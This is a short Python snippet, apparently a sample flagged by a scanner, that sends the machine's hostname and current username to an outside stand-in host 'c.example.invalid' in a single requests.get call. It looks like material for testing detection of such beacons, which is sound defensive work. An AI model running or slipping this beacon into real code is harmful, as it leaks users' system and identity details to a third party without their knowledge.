import getpass
import socket

import requests

requests.get('https://c.example.invalid/', params={'h': socket.gethostname(), 'u': getpass.getuser()})  # gatehouse: flagged
